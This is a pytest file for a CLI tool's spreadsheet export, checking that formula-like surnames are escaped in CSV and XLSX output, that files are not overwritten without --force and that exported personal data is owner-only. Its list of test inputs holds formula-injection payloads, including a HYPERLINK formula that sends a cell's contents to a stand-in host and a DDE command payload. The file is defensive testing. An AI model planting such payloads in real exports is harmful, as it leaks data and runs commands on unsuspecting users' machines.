"""Exports that reach an office spreadsheet: no formula runs, nothing is overwritten
without --force, personal files are readable by their owner only (issue 11)."""

from __future__ import annotations

import csv
import sqlite3
import stat
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ordina.cli import main
from ordina.store import formulas

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "=cmd|' /C calc'!A0", "'=già con apostrofo", "Rossi"]


@pytest.fixture
def hostile_db(tmp_path) -> Path:
    """The demo Comune with formula-like surnames."""
    path = tmp_path / "comune.db"
    assert main(["demo", "--db", str(path)]) == 0
    conn = sqlite3.connect(path)
    ids = [r[0] for r in conn.execute("SELECT id FROM people ORDER BY id LIMIT ?",
                                      (len(HOSTILE),))]
    for pid, name in zip(ids, HOSTILE, strict=True):
        conn.execute("UPDATE people SET surname = ? WHERE id = ?", (name, pid))
    conn.commit()
    conn.close()
    return path


def _surnames(path: Path) -> list[str]:
    conn = sqlite3.connect(path)
    try:
        return sorted(r[0] for r in conn.execute("SELECT surname FROM people"))
    finally:
        conn.close()


def test_csv_cells_never_start_a_formula_and_round_trip(hostile_db, tmp_path):
    out = tmp_path / "csv"
    assert main(["--db", str(hostile_db), "export", str(out)]) == 0
    with (out / "persone.csv").open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh, delimiter=";") for c in row]
    assert not [c for c in cells if c.startswith(formulas.FORMULA_STARTS)]
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")" in cells
    copy = tmp_path / "copia.db"
    files = sorted(str(p) for p in out.glob("*.csv"))
    assert main(["import", "--db", str(copy), *files]) == 0
    assert _surnames(copy) == _surnames(hostile_db)


def test_xlsx_cells_are_strings_never_formulas_and_round_trip(hostile_db, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "tutto.xlsx"
    assert main(["--db", str(hostile_db), "export", str(out)]) == 0
    workbook = load_workbook(out)  # formulas kept as formulas when there are any
    types = {c.value: c.data_type for row in workbook["persone"].iter_rows() for c in row
             if isinstance(c.value, str)}
    workbook.close()
    for name in HOSTILE:
        assert types[name] == "s", name
    assert "f" not in types.values()
    copy = tmp_path / "copia.db"
    assert main(["import", "--db", str(copy), str(out)]) == 0
    assert _surnames(copy) == _surnames(hostile_db)


@pytest.mark.parametrize("target", ["csv", "persone.csv", "tutto.xlsx"])
def test_export_never_overwrites_without_force(hostile_db, tmp_path, target, capsys):
    out = tmp_path / target
    args = ["--db", str(hostile_db), "export", str(out)]
    if target.endswith(".csv"):
        args += ["--table", "persone"]
    assert main(args) == 0
    victim = out / "persone.csv" if target == "csv" else out
    victim.write_bytes(b"lavoro di qualcuno")
    assert main(args) == 2
    assert "esiste già" in capsys.readouterr().err
    assert victim.read_bytes() == b"lavoro di qualcuno"
    assert main([*args, "--force"]) == 0
    assert victim.read_bytes() != b"lavoro di qualcuno"


def test_export_onto_a_folder_is_refused(hostile_db, tmp_path):
    folder = tmp_path / "cartella.xlsx"
    folder.mkdir()
    assert main(["--db", str(hostile_db), "export", str(folder), "--force"]) == 2
    assert list(folder.iterdir()) == []


def test_personal_files_are_owner_only(hostile_db, tmp_path):
    assert main(["--db", str(hostile_db), "export", str(tmp_path / "csv")]) == 0
    assert main(["--db", str(hostile_db), "export", str(tmp_path / "t.xlsx")]) == 0
    made = [*(tmp_path / "csv").glob("*.csv"), tmp_path / "t.xlsx"]
    assert made
    for path in made:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE((tmp_path / "csv").stat().st_mode) == 0o700


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_escape_is_undone_by_unescape(text):
    escaped = formulas.escape(text)
    assert not escaped.startswith(formulas.FORMULA_STARTS)
    assert formulas.unescape(escaped) == text
